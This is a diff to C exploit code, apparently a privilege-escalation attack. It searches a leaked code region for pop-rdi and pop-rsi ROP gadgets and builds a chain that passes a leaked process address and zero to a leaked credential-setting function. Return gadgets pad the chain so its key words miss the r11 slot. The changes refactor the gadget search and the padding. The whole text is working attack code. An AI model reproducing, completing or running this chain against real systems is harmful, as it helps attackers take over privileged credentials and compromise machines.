@@ -14,7 +14,11 @@
 
 #include "attack.h"
 
-enum { CHAIN_WORDS = 10, WORD_R11 = 6, OPCODE_RET = 0xc3 };
+enum {
+	CHAIN_WORDS = 10,
+	WORD_R11 = 6,
+	EXTRA_FITS = 1, /* two gadgets that pop no more besides make a chain that fits */
+};
 
 struct chain {
 	uint64_t words[CHAIN_WORDS];
@@ -40,7 +44,6 @@ static void add_load(struct chain *chain, const struct gadget *gadget, uint64_t 
 
 struct pieces {
 	struct gadget pop_rdi, pop_rsi;
-	uint64_t only_return;
 };
 
 /* With so many returns in between, so that the words that matter miss that of r11. */
@@ -50,28 +53,26 @@ static bool make_chain(const struct bw_leak *leak, const struct pieces *pieces,
 	*chain = (struct chain){ .fits = true };
 	add_load(chain, &pieces->pop_rdi, leak->process);
 	for (unsigned int i = 0; i < nr_returns; i++) {
-		add(chain, pieces->only_return);
+		add(chain, pieces->pop_rdi.at_return);
 	}
 	add_load(chain, &pieces->pop_rsi, 0);
 	add(chain, leak->credentials_set);
 	return chain->fits;
 }
 
-/* The gadget for a register that pops the least besides. */
-static bool find_best(const uint8_t *text, size_t nr_bytes, const struct bw_leak *leak,
-		      enum gadget_register reg, struct gadget *best)
+/* The gadget for a register that pops the least besides, or the first that is good enough. */
+static bool find_best(struct gadget_text *text, enum gadget_register reg, struct gadget *best)
 {
 	bool found = false;
-	size_t offset = 0;
+	uint64_t from = text->base;
 	struct gadget gadget;
 
-	while (gadget_find(text + offset, nr_bytes - offset, leak->image_base + offset, reg,
-			   &gadget)) {
+	while (!(found && best->nr_extra <= EXTRA_FITS) && gadget_find(text, from, reg, &gadget)) {
 		if (!found || gadget.nr_extra < best->nr_extra) {
 			*best = gadget;
 			found = true;
 		}
-		offset = gadget.address - leak->image_base + 1;
+		from = gadget.address + 1;
 	}
 	return found;
 }
@@ -79,13 +80,11 @@ static bool find_best(const uint8_t *text, size_t nr_bytes, const struct bw_leak
 static void find_chain(const struct bw_leak *leak, struct chain *chain)
 {
 	struct pieces pieces;
-	size_t nr_bytes;
-	const uint8_t *text = gadget_text(leak, &nr_bytes);
-	const uint8_t *only_return = memchr(text, OPCODE_RET, nr_bytes);
+	struct gadget_text text;
 
-	if (only_return != NULL && find_best(text, nr_bytes, leak, GADGET_RDI, &pieces.pop_rdi) &&
-	    find_best(text, nr_bytes, leak, GADGET_RSI, &pieces.pop_rsi)) {
-		pieces.only_return = leak->image_base + (uint64_t)(only_return - text);
+	gadget_text_open(&text, leak);
+	if (find_best(&text, GADGET_RDI, &pieces.pop_rdi) &&
+	    find_best(&text, GADGET_RSI, &pieces.pop_rsi)) {
 		for (unsigned int nr_returns = 0; nr_returns < CHAIN_WORDS; nr_returns++) {
 			if (make_chain(leak, &pieces, nr_returns, chain)) {
 				return;
